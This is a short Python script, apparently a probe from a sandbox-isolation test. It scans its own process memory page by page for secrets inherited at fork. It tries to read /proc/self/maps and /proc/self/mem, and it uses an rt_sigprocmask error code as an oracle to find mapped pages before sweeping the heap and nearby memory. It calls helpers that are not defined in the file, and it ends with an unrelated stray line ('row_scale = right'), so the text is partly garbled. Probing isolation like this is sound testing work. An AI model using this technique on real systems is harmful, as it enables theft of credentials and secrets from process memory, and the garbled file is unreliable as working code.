# Tries to search its own memory, page by page, for what the process was forked with.

import ctypes

PAGE = 4096
library = ctypes.CDLL(None, use_errno=True)


def readable(address):
    # A wrong first argument is looked at after the memory: error 22 for a page that is there, else 14.
    number = ctypes.c_long(WORLD["calls"]["rt_sigprocmask"])
    library.syscall(number, ctypes.c_long(99), ctypes.c_void_p(address), None, ctypes.c_long(8))
    return ctypes.get_errno() == 22


def look(what, low, high):
    begin = None
    pages = 0
    for at in range(low, high + PAGE, PAGE):
        there = at < high and readable(at)
        if there and begin is None:
            begin = at
        if begin is not None and (not there or at - begin > 1 << 20):
            look_for_secrets(what, ctypes.string_at(begin, at - begin))
            pages += (at - begin) // PAGE
            begin = at if there else None
    return pages


def attack():
    attempt("maps", lambda: open("/proc/self/maps").read())
    attempt("mem", lambda: open("/proc/self/mem", "rb").read(1))
    control = WORLD["needle"] + "c0ntr0l" + str(10**8 + len(WORLD["needle"]))
    library.sbrk.restype = ctypes.c_void_p
    top = library.sbrk(0) & ~(PAGE - 1)
    here = id(control) & ~(PAGE - 1)
    pages = look("heap", max(PAGE, top - (128 << 20)), top) + look(
        "memory", here - (128 << 20), here + (128 << 20)
    )
    print("looked at", pages, "pages for", control[-9:])


attack()
row_scale = right
